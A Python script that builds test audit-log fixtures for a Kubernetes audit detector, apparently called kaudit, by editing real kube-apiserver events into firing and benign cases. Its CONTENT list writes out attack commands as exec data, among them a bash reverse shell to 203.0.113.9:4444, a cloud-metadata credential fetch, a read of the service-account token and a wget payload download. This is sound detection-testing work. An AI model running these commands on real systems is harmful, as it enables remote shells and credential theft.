#!/usr/bin/env python3
"""Generate the `kaudit detect` cases of its design faults in testdata/edge/detect/: edits of real 1.36 lines.

Rerun with:  python3 testdata/edge/make_detect_attempts.py
Standard library only. Deterministic (no clock, no randomness): rerunning rewrites every file byte for byte.

Input: testdata/modern/d1/*.log.gz, real kube-apiserver v1.36.2 output (RequestResponse, all stages; see
testdata/README.md). Each case copies the events of one real request (found by auditID), parses each line as JSON,
makes the edits its builder states, and writes it back compact, keys in the API server's order (Python's json
keeps them). Lines not edited are written back the same way; `<`, `>` and `&` are escaped as \\u003c, \\u003e,
\\u0026 as Go writes them. Every request gets a new auditID (its last 4 hex digits: a code unique to the case),
the same for all its stages, so none is taken for the real request it was copied from.

The cases, each with what the rule must do (tests/detect_cases.tsv, tests/detect.rs):
  attempt-exec-denied.log       oscar's exec (B: eeaeca01) as eve, refused by RBAC: KA001 fires, outcome denied
  attempt-exec-failed.log       the same exec authorized, then 500 before the stream opened: KA001, outcome failed
  attempt-binding-invalid.log   the frank-cluster-admin binding (db0a16eb) answered 422 Invalid: KA016, failed
  addon-sa-lists-secrets.log    frank's cluster-wide list of secrets (4a7ffda7) by kube-system's coredns: KA032
  controller-lists-secrets.log  the same by kube-system's namespace-controller (the control plane): no KA032
  xff-spoofed-private.log       infra:pipeline's list of pods (aa9d48cc) connecting from 203.0.113.9 with a
                                client-set X-Forwarded-For of 10.0.0.5: KA050 fires on the connecting address
  xff-claimed-public.log        the reverse: a public address claimed, 10.1.2.3 connected: no KA050
  exec-credential-command.log   oscar's exec running `mysql -u root -phunter2 -e "select 1"`: KA001 shows the
                                command with the password hidden

Content cases (issue 21's new rules), each a firing case and a benign look-alike that must stay quiet, named
RULE-what.log; CONTENT below lists them with the real request each starts from and its edits.
"""
import copy
import gzip
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(HERE)
D1 = os.path.join(TOP, "modern", "d1")
OUT = os.path.join(HERE, "detect")


def events_of(prefix):
    """The events (parsed, in file order) of the one real request whose auditID starts with prefix."""
    found = []
    for name in sorted(os.listdir(D1)):
        if not name.startswith("audit-") or not name.endswith(".log.gz"):
            continue
        with gzip.open(os.path.join(D1, name), "rt", encoding="utf-8") as f:
            for line in f:
                if ('"auditID":"%s' % prefix) in line:
                    found.append(json.loads(line))
    ids = {e["auditID"] for e in found}
    assert len(ids) == 1, (prefix, ids)
    return found


def dump(ev):
    text = json.dumps(ev, separators=(",", ":"), ensure_ascii=False)
    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def write(name, code, events):
    for ev in events:
        ev["auditID"] = ev["auditID"][:-4] + "%04x" % code
    path = os.path.join(OUT, name)
    with open(path, "w", encoding="utf-8") as f:
        for ev in events:
            f.write(dump(ev) + "\n")
    stages = ",".join(e["stage"] for e in events)
    print("%-30s %d events (%s)" % (name, len(events), stages))


def as_user(ev, username, groups):
    ev["user"] = {"username": username, "groups": groups}


def forbidden(ev, message):
    """A final stage's answer as RBAC's refusal: 403, decision forbid, the Status body (RequestResponse)."""
    status = {"metadata": {}, "status": "Failure", "message": message, "reason": "Forbidden", "code": 403}
    ev["responseStatus"] = status
    ev["responseObject"] = dict({"kind": "Status", "apiVersion": "v1"}, **status)
    ev["annotations"]["authorization.k8s.io/decision"] = "forbid"
    ev["annotations"]["authorization.k8s.io/reason"] = ""


def exec_denied():
    evs = [e for e in events_of("eeaeca01") if e["stage"] != "ResponseStarted"]
    for e in evs:
        as_user(e, "eve", ["interns", "system:authenticated"])
    forbidden(evs[-1], 'pods "cashier-0" is forbidden: User "eve" cannot get resource "pods/exec" in API group ""'
                       ' in the namespace "billing"')
    return evs


def exec_failed():
    evs = [e for e in events_of("eeaeca01") if e["stage"] != "ResponseStarted"]
    msg = "error dialing backend: dial tcp 127.0.0.1:10250: connect: connection refused"
    status = {"metadata": {}, "status": "Failure", "message": msg, "reason": "InternalError", "code": 500}
    evs[-1]["responseStatus"] = status
    evs[-1]["responseObject"] = dict({"kind": "Status", "apiVersion": "v1"}, **status)
    return evs


def binding_invalid():
    evs = events_of("db0a16eb")
    msg = ('ClusterRoleBinding.rbac.authorization.k8s.io "frank-cluster-admin" is invalid: subjects[0].kind: '
           'Unsupported value: "Usr": supported values: "Group", "ServiceAccount", "User"')
    status = {"metadata": {}, "status": "Failure", "message": msg, "reason": "Invalid", "code": 422}
    for e in evs:
        if "requestObject" in e:
            e["requestObject"]["subjects"][0]["kind"] = "Usr"
    evs[-1]["responseStatus"] = status
    evs[-1]["responseObject"] = dict({"kind": "Status", "apiVersion": "v1"}, **status)
    return evs


def exec_credential():
    evs = events_of("eeaeca01")
    words = ["mysql", "-u", "root", "-phunter2", "-e", "select 1"]
    query = "&".join("command=" + w.replace(" ", "+") for w in words)
    for e in evs:
        e["requestURI"] = e["requestURI"].replace("command=id", query)
    return evs


def lists_secrets(sa):
    evs = events_of("4a7ffda7")
    for e in evs:
        as_user(e, "system:serviceaccount:kube-system:" + sa,
                ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"])
        e["userAgent"] = "coredns/v1.12.0" if sa == "coredns" else (
            "kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/98b3519/system:serviceaccount:kube-system:" + sa)
    return evs


def pipeline_from(ips):
    evs = events_of("aa9d48cc")
    for e in evs:
        e["sourceIPs"] = ips
    return evs


def edit(prefix, fn=None, final=None, drop_started=False):
    """The events of real request `prefix`, each passed to fn(event) (all stages), the final one to final()."""
    evs = [e for e in events_of(prefix) if not (drop_started and e["stage"] == "ResponseStarted")]
    for e in evs:
        if fn:
            fn(e)
    if final:
        final(evs[-1])
    return evs


def exec_words(words):
    """oscar's exec (eeaeca01) running `words`: each a `command` parameter of the URI."""
    query = "&".join("command=" + w.replace("%", "%25").replace("&", "%26").replace(" ", "+") for w in words)
    return edit("eeaeca01", lambda e: e.update(requestURI=e["requestURI"].replace("command=id", query)))


def set_body(e, key, fn):
    if key in e and e[key] is not None:
        fn(e[key])


def retarget(e, resource, group, version, ns, name=None, collection=False):
    """objectRef and requestURI of a request made about another resource (nothing else changes)."""
    ref = {"resource": resource, "namespace": ns, "apiGroup": group, "apiVersion": version}
    if not group:
        del ref["apiGroup"]
    if name:
        ref["name"] = name
    e["objectRef"] = ref
    base = "/api/v1" if not group else "/apis/%s/%s" % (group, version)
    path = "%s/namespaces/%s/%s" % (base, ns, resource)
    if name and not collection:
        path += "/" + name
    q = e["requestURI"].split("?", 1)
    e["requestURI"] = path + ("?" + q[1] if len(q) > 1 else "")


def as_workload(kind, resource, group):
    """dana's Deployment create (56236791) as another workload kind."""
    def fn(e):
        retarget(e, resource, group, "v1", "locked-down", "legacy-agent", collection=True)
        for k in ("requestObject", "responseObject"):
            if e.get(k):
                e[k]["kind"] = kind
                e[k]["apiVersion"] = "%s/v1" % group
    return fn


def pod_spec(fn):
    return lambda e: [fn(e[k]) for k in ("requestObject", "responseObject") if e.get(k)]


def with_user(name, groups):
    return lambda e: as_user(e, name, groups)


SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]


def many(prefix, n, each):
    """n copies of real request `prefix`, copy i edited by each(i, event) and given its own auditID."""
    out = []
    for i in range(n):
        evs = copy.deepcopy(events_of(prefix))
        for e in evs:
            each(i, e)
            e["auditID"] = e["auditID"][:-6] + "%02x" % i + e["auditID"][-4:]
        out.extend(evs)
    return out


def secret_get_named(i, e):
    name = "s%d" % i
    e["requestURI"] = e["requestURI"].replace("payment-gateway-token", name)
    e["objectRef"]["name"] = name


def list_kind(kinds):
    def each(i, e):
        retarget(e, kinds[i], "", "v1", None or "billing", collection=True)
        e["objectRef"].pop("name", None)
    return each


def role_rules(rules):
    return lambda e: [e[k].update(rules=rules) for k in ("requestObject", "responseObject") if e.get(k)]


CONTENT = [
    ("KA053-reverse-shell.log", lambda: exec_words(["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])),
    ("KA053-shell-script.log", lambda: exec_words(["sh", "-c", "echo done > /tmp/status"])),
    ("KA054-metadata.log", lambda: exec_words(["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"])),
    ("KA054-localhost.log", lambda: exec_words(["curl", "-s", "http://localhost:8080/healthz"])),
    ("KA055-token-read.log", lambda: exec_words(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])),
    ("KA055-hostname-read.log", lambda: exec_words(["cat", "/etc/hostname"])),
    ("KA056-wget.log", lambda: exec_words(["wget", "-q", "-O", "/tmp/x", "https://203.0.113.9/x"])),
    ("KA056-ls.log", lambda: exec_words(["ls", "-la", "/tmp"])),
    ("KA057-tar-out.log", lambda: exec_words(["tar", "cf", "-", "/etc/hostname"])),
    ("KA057-tar-version.log", lambda: exec_words(["tar", "--version"])),
    ("KA058-kube-hunter.log", lambda: edit("8131283d", lambda e: e.update(userAgent="kube-hunter/0.6.8"))),
    ("KA058-kubectl.log", lambda: edit("8131283d")),
    ("KA059-run-as-root.log", lambda: edit("87a0d2a8", pod_spec(lambda o: o["spec"].setdefault("securityContext", {}).update(runAsUser=0)))),
    ("KA059-compliant.log", lambda: edit("87a0d2a8")),
    ("KA060-hostpath-varlog.log", lambda: edit("391abf79", pod_spec(lambda o: o["spec"].setdefault("volumes", []).append({"name": "logs", "hostPath": {"path": "/var/log", "type": ""}})))),
    ("KA060-no-hostpath.log", lambda: edit("391abf79")),
    ("KA061-pod-in-default.log", lambda: edit("391abf79", lambda e: (retarget(e, "pods", "", "v1", "default", "cashier-0", collection=True), set_body(e, "requestObject", lambda o: o["metadata"].update(namespace="default"))))),
    ("KA061-pod-in-billing.log", lambda: edit("391abf79")),
    ("KA062-cronjob-by-dana.log", lambda: edit("56236791", as_workload("CronJob", "cronjobs", "batch"))),
    ("KA062-job-by-controller.log", lambda: edit("56236791", lambda e: (as_workload("Job", "jobs", "batch")(e), as_user(e, "system:serviceaccount:kube-system:cronjob-controller", SA_GROUPS)))),
    ("KA063-daemonset.log", lambda: edit("56236791", as_workload("DaemonSet", "daemonsets", "apps"))),
    ("KA063-deployment.log", lambda: edit("56236791")),
    ("KA064-sidecar-patch.log", lambda: edit("9251f8e8", lambda e: set_body(e, "requestObject", lambda o: o["spec"]["template"].update(spec={"containers": [{"name": "helper", "image": "registry.example/helper:1"}]})))),
    ("KA064-annotation-patch.log", lambda: edit("9251f8e8")),
    ("KA065-mirror-pod.log", lambda: edit("391abf79", lambda e: (as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]), set_body(e, "requestObject", lambda o: o["metadata"].setdefault("annotations", {}).update({"kubernetes.io/config.mirror": "4f1c7b"}))))),
    ("KA065-pod-by-node.log", lambda: edit("391abf79", lambda e: as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]))),
    ("KA066-edit-binding.log", lambda: edit("2b7c1395")),
    ("KA066-view-binding.log", lambda: edit("433de5d2")),
    ("KA067-sa-edit-binding.log", lambda: edit("5a0c5282")),
    ("KA067-sa-role-binding.log", lambda: edit("3f41d660")),
    ("KA068-role-writes-bindings.log", lambda: edit("6a794ba2", role_rules([{"verbs": ["create", "patch"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["rolebindings"]}]))),
    ("KA068-role-reads-secrets.log", lambda: edit("6a794ba2")),
    ("KA070-sa-lists-secrets.log", lambda: edit("5b97091d")),
    ("KA070-person-lists-secrets.log", lambda: edit("c575fcb3")),
    ("KA071-secret-get-denied.log", lambda: edit("8131283d")),
    ("KA071-secret-get-allowed.log", lambda: edit("8de1a553")),
    ("KA072-list-kube-system.log", lambda: edit("c575fcb3", lambda e: retarget(e, "secrets", "", "v1", "kube-system", collection=True))),
    ("KA072-list-billing.log", lambda: edit("c575fcb3")),
    ("KA073-five-names.log", lambda: many("8de1a553", 5, secret_get_named)),
    ("KA073-four-names.log", lambda: many("8de1a553", 4, secret_get_named)),
    ("KA074-python-client.log", lambda: edit("8de1a553", lambda e: e.update(userAgent="python-requests/2.31.0"))),
    ("KA074-kubectl-client.log", lambda: edit("8de1a553")),
    ("KA075-secret-created.log", lambda: edit("b4903976")),
    ("KA075-secret-read.log", lambda: edit("8de1a553")),
    ("KA076-netpol-deleted.log", lambda: edit("ca8ae085", lambda e: retarget(e, "networkpolicies", "networking.k8s.io", "v1", "shop", "default-deny"))),
    ("KA076-configmap-deleted.log", lambda: edit("ca8ae085")),
    ("KA077-ingress-plain.log", lambda: edit("a402388e", lambda e: (retarget(e, "ingresses", "networking.k8s.io", "v1", "shop", "web", collection=True), [e.update({k: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"rules": [{"host": "shop.example", "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "web", "port": {"number": 80}}}}]}}]}}}) for k in ("requestObject", "responseObject") if e.get(k)]))),
    ("KA077-ingress-tls.log", lambda: edit("a402388e", lambda e: (retarget(e, "ingresses", "networking.k8s.io", "v1", "shop", "web", collection=True), [e.update({k: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"tls": [{"hosts": ["shop.example"], "secretName": "web-tls"}], "rules": [{"host": "shop.example"}]}}}) for k in ("requestObject", "responseObject") if e.get(k)]))),
    ("KA081-node-by-admin.log", lambda: edit("1d3bbefc")),
    ("KA081-node-by-kubelet.log", lambda: edit("1d3bbefc", lambda e: as_user(e, "system:node:node-d1", ["system:nodes", "system:authenticated"]))),
    ("KA082-kubernetes-admin.log", lambda: edit("8de1a553", lambda e: as_user(e, "kubernetes-admin", ["system:masters", "system:authenticated"]))),
    ("KA082-named-admin.log", lambda: edit("8de1a553")),
    ("KA083-pod-deleted.log", lambda: edit("456fa536")),
    ("KA083-configmap-deleted.log", lambda: edit("ca8ae085")),
    ("KA084-sa-created.log", lambda: edit("2ce61cff")),
    ("KA084-sa-in-kube-system.log", lambda: edit("2ce61cff", lambda e: retarget(e, "serviceaccounts", "", "v1", "kube-system", "pipeline", collection=True))),
    ("KA085-create-denied.log", lambda: edit("ec94f4f2")),
    ("KA085-access-review.log", lambda: edit("ab019f88")),
    ("KA086-four-kinds.log", lambda: many("c575fcb3", 4, list_kind(["secrets", "configmaps", "pods", "serviceaccounts"]))),
    ("KA086-three-kinds.log", lambda: many("c575fcb3", 3, list_kind(["secrets", "configmaps", "pods"]))),
    ("KA087-binding-deleted.log", lambda: edit("c5c9ceee")),
    ("KA087-configmap-deleted.log", lambda: edit("ca8ae085")),
    ("KA088-role-writes-gadgets.log", lambda: edit("cc0dcadf")),
    ("KA088-role-reads-configmaps.log", lambda: edit("6a794ba2", role_rules([{"verbs": ["get", "list"], "apiGroups": [""], "resources": ["configmaps"]}]))),
    ("KA089-arc-proxy-reads-secret.log", lambda: edit("8de1a553", lambda e: as_user(e, "system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa", ["system:serviceaccounts", "system:authenticated"]))),
    ("KA089-other-sa-reads-secret.log", lambda: edit("8de1a553", lambda e: as_user(e, "system:serviceaccount:azure-arc:cluster-metadata-operator", ["system:serviceaccounts", "system:authenticated"]))),
    ("KA090-secret-get-denied.log", lambda: edit("8131283d")),
    ("KA090-secret-get-allowed.log", lambda: edit("8de1a553")),
    ("KA091-controller-sa-pod.log", lambda: edit("391abf79", lambda e: (retarget(e, "pods", "", "v1", "kube-system", "cashier-0", collection=True), pod_spec(lambda o: o["spec"].update(serviceAccountName="namespace-controller"))(e)))),
    ("KA091-addon-sa-pod.log", lambda: edit("391abf79", lambda e: (retarget(e, "pods", "", "v1", "kube-system", "cashier-0", collection=True), pod_spec(lambda o: o["spec"].update(serviceAccountName="coredns"))(e)))),
    ("KA092-configmap-created.log", lambda: edit("a402388e")),
    ("KA092-configmap-patched.log", lambda: edit("99f769de")),
    ("KA017-wildcard-by-patch.log", lambda: edit("6a794ba2", lambda e: (e.update(verb="patch"), set_body(e, "requestObject", lambda o: o.update(rules=[{"verbs": ["*"], "apiGroups": [""], "resources": ["secrets"]}])), set_body(e, "responseObject", lambda o: o.update(rules=[{"verbs": ["*"], "apiGroups": [""], "resources": ["secrets"]}]))))),
    ("KA018-pods-star.log", lambda: edit("6a794ba2", role_rules([{"verbs": ["get"], "apiGroups": [""], "resources": ["pods/*"]}]))),
]


def main():
    os.makedirs(OUT, exist_ok=True)
    for i, (name, build) in enumerate(CONTENT):
        write(name, 0xB000 + i, build())
    write("attempt-exec-denied.log", 0xA001, exec_denied())
    write("attempt-exec-failed.log", 0xA002, exec_failed())
    write("attempt-binding-invalid.log", 0xA003, binding_invalid())
    write("addon-sa-lists-secrets.log", 0xA004, lists_secrets("coredns"))
    write("controller-lists-secrets.log", 0xA005, lists_secrets("namespace-controller"))
    write("xff-spoofed-private.log", 0xA006, pipeline_from(["10.0.0.5", "203.0.113.9"]))
    write("xff-claimed-public.log", 0xA007, pipeline_from(["203.0.113.9", "10.1.2.3"]))
    write("exec-credential-command.log", 0xA008, exec_credential())


if __name__ == "__main__":
    main()
